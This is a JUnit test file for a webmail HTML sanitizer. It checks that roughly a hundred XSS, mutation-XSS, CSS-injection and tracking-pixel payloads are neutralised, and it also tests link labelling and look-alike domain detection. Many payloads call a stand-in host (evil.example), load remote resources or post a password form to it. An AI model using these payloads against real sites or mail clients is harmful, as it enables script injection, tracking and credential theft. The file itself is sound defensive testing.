package org.tassis.webmail.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class MailHtmlTest {
    private static final Pictures NONE = new Pictures() {
        @Override
        public Optional<String> attached(String contentId) {
            return contentId.equals("logo@here") ? Optional.of("/webmail/picture/logo") : Optional.empty();
        }

        @Override
        public Optional<String> remote(String url) {
            return Optional.empty();
        }
    };

    private static final Pictures ALL = new Pictures() {
        @Override
        public Optional<String> attached(String contentId) {
            return Optional.empty();
        }

        @Override
        public Optional<String> remote(String url) {
            return Optional.of("/webmail/picture/remote");
        }
    };

    private static String clean(String html) {
        return MailHtml.clean(html, NONE).html();
    }

    static Stream<String> attacks() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img/src=\"x\"/onerror=alert(1)//",
                "<img src=`x`onerror=alert(1)>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
                "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java&#09;script:alert(1)\">x</a>",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"blob:https://evil.example/1\">x</a>",
                "<a href=\"//evil.example\" onclick=alert(1)>x</a>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<applet code=x></applet>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<link rel=dns-prefetch href=//evil.example>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<style>body{background:url(https://evil.example/x)}</style><p>x",
                "<style>p{background-image:\\75rl(https://evil.example)}</style><p>x</p>",
                "<p style=\"background:url(https://evil.example/x)\">x</p>",
                "<p style=\"background:u\\72l(https://evil.example/x)\">x</p>",
                "<p style=\"background:/**/url/**/(https://evil.example/x)\">x</p>",
                "<p style=\"width:expression(alert(1))\">x</p>",
                "<p style=\"behavior:url(x.htc)\">x</p>",
                "<p style=\"-moz-binding:url(x.xml#x)\">x</p>",
                "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
                "<p style=\"content:url(https://evil.example/x)\">x</p>",
                "<p style=\"list-style:url(https://evil.example/x)\">x</p>",
                "<p style=\"font-family:x;src:url(https://evil.example)\">x</p>",
                "<p style=\"background:image-set('https://evil.example/x' 1x)\">x</p>",
                "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>",
                "<div style=\"margin:-9999px\">x</div>",
                "<img src=\"https://evil.example/pixel.gif\">",
                "<img src=\"//evil.example/pixel.gif\">",
                "<img src=\"http:\\\\evil.example\\x\">",
                "<img srcset=\"https://evil.example/a 1x, https://evil.example/b 2x\">",
                "<img src=x lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
                "<img src=\"data:text/html,<script>alert(1)</script>\">",
                "<img src=\"file:///etc/passwd\">",
                "<image src=https://evil.example/x>",
                "<picture><source srcset=https://evil.example/x><img src=x></picture>",
                "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
                "<audio src=https://evil.example/x autoplay onplay=alert(1)></audio>",
                "<track src=https://evil.example/x>",
                "<input type=image src=https://evil.example/x onerror=alert(1)>",
                "<body background=https://evil.example/x onload=alert(1)>",
                "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</table>",
                "<form action=https://evil.example/><input name=password><button formaction=https://evil.example>x</button></form>",
                "<isindex action=https://evil.example type=image>",
                "<select onfocus=alert(1) autofocus><option>x</select>",
                "<textarea autofocus onfocus=alert(1)></textarea>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<keygen autofocus onfocus=alert(1)>",
                "<xml id=x><x><![CDATA[<img src=x onerror=alert(1)>]]></x></xml>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"https://evil.example/x\"?>",
                "<template><img src=x onerror=alert(1)></template>",
                "<title><img src=x onerror=alert(1)></title>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<blockquote cite=\"https://evil.example/x\">x</blockquote>",
                "<q cite=javascript:alert(1)>x</q>",
                "<portal src=https://evil.example></portal>",
                "<frameset><frame src=https://evil.example></frameset>",
                "<a href=\"https://x.example\" ping=\"https://evil.example/p\">x</a>",
                "<area href=javascript:alert(1) shape=rect coords=0,0,9,9>",
                "<p id=\"toString\" name=\"body\">x</p>",
                "<div title=\"</div><script>alert(1)</script>\">x</div>",
                "<font face=\"x' onmouseover=alert(1) '\">x</font>",
                "\u003cscript\u003ealert(1)\u003c/script\u003e",
                "<%<!--'%><script>alert(1);</script -->",
                "<b/onmouseover=alert(1)>x</b>",
                "<x style=\"behavior:url(#default#time2)\" onbegin=alert(1)>");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void nothingRunsAndNothingIsLoaded(String attack) {
        for (Pictures pictures : List.of(NONE, ALL)) {
            String html = MailHtml.clean("<p>before</p>" + attack, pictures).html();
            for (Element element : Jsoup.parse(html).body().getAllElements()) {
                assertThat(element.normalName())
                        .as(html)
                        .isNotIn(
                                "script",
                                "style",
                                "iframe",
                                "frame",
                                "object",
                                "embed",
                                "svg",
                                "math",
                                "form",
                                "input",
                                "button",
                                "select",
                                "textarea",
                                "link",
                                "meta",
                                "base",
                                "video",
                                "audio",
                                "source",
                                "template",
                                "noscript",
                                "area",
                                "details",
                                "image",
                                "picture");
                for (Attribute attribute : element.attributes()) {
                    String name = attribute.getKey();
                    String value = attribute.getValue();
                    assertThat(name)
                            .as(html)
                            .doesNotStartWith("on")
                            .isNotIn("id", "name", "srcset", "background", "ping", "cite", "action");
                    if (name.equals("src")) {
                        assertThat(value).as(html).startsWith("/webmail/picture/");
                    } else if (name.equals("href")) {
                        assertThat(value).as(html).matches("(?i)(https?|mailto):.*");
                    } else if (name.equals("style")) {
                        assertThat(value)
                                .as(html)
                                .doesNotContain(
                                        "url", "expression", "\\", "position", "image", "behavior", "binding", "-9");
                    }
                }
            }
        }
    }

    @Test
    void whatIsHarmlessStays() {
        String html = clean("<table width=\"100%\" bgcolor=\"#ffeedd\"><tr><td style=\"color: #123456; padding:4px\">"
                + "<b>Dear</b> <font face=\"Arial, sans-serif\" size=\"2\">Ann</font></td></tr></table>");
        assertThat(html)
                .contains("bgcolor=\"#ffeedd\"")
                .contains("color:#123456;padding:4px")
                .contains("<b>Dear</b>")
                .contains("face=\"Arial, sans-serif\"");
    }

    @Test
    void simpleRulesOfASheetAreWrittenIntoElements() {
        String html = clean("<style>@import 'x'; @media screen { p { color: blue } } .big, h1 > b { font-size: 30px;"
                + " position: fixed } p { color: red }</style><p class=big>x</p>");
        assertThat(html)
                .contains("color:red;font-size:30px")
                .doesNotContain("blue")
                .doesNotContain("fixed");
    }

    @Test
    void attachedPicturesAreOursAndOthersAreCounted() {
        MailHtml.Cleaned cleaned = MailHtml.clean(
                "<img src=\"cid:logo@here\"><img src=\"https://a.example/1\"><img src='//b.example/2'>", NONE);
        assertThat(cleaned.html()).contains("src=\"/webmail/picture/logo\"").doesNotContain("example");
        assertThat(cleaned.blocked()).isEqualTo(2);
        assertThat(MailHtml.clean("<img src=\"https://a.example/1\">", ALL).blocked())
                .isZero();
    }

    @Test
    void linksOpenElsewhereAndTellWhereTheyLead() {
        String html = clean(
                "<a href=\"https://evil.example/login\">www.bank.example</a> <a href='https://www.good.example/x'>good.example</a>");
        assertThat(html)
                .contains("target=\"_blank\"")
                .contains("noopener")
                .contains("noreferrer")
                .contains("\u2192 evil.example")
                .doesNotContain("\u2192 www.good.example");
        assertThat(clean("<a href=\"https://b\u0430nk.example/\">x</a>")).contains("xn--bnk-6cd.example");
    }

    @Test
    void deepAndLongMailEndsInTime() {
        assertThat(clean("<div>".repeat(100_000) + "x")).isNotNull();
        assertThat(clean("<a href='x'".repeat(50_000))).isNotNull();
        assertThat(clean("<style>" + "p{color:red} ".repeat(20_000) + "</style>" + "<p>x".repeat(20_000)))
                .isNotNull();
        assertThat(clean("<p style=\"" + "color:red;".repeat(100_000) + "\">x")).contains("x");
        assertThat(clean("<a href=\"https://far.example/\">" + "a.".repeat(200_000) + "example</a>"))
                .contains("far.example");
    }

    @Test
    void plainTextIsEscapedLinkedAndFolded() {
        String html = PlainText.html(
                "Look: https://a.example/x?y=1&z=2. <b>no</b>\n> one\n> two\n> three\n> four\nend ann@example.org",
                "Quoted");
        assertThat(html)
                .contains(
                        "<a href=\"https://a.example/x?y=1&amp;z=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">")
                .contains("&lt;b&gt;no&lt;/b&gt;")
                .contains("<details class=\"quote\"><summary>Quoted</summary>&gt; one")
                .contains("href=\"/webmail/write?to=ann@example.org\"");
    }

    @Test
    void mixedScriptsAreSeen() {
        assertThat(LookAlike.mixesScripts("p\u0430ypal")).isTrue();
        assertThat(LookAlike.mixesScripts("Ren\u00e9e de Tassis")).isFalse();
        assertThat(LookAlike.mixesScripts("\u0418\u0432\u0430\u043d Petrov")).isFalse();
        assertThat(LookAlike.mixesScripts("\u6771\u4eacTower")).isFalse();
    }
}
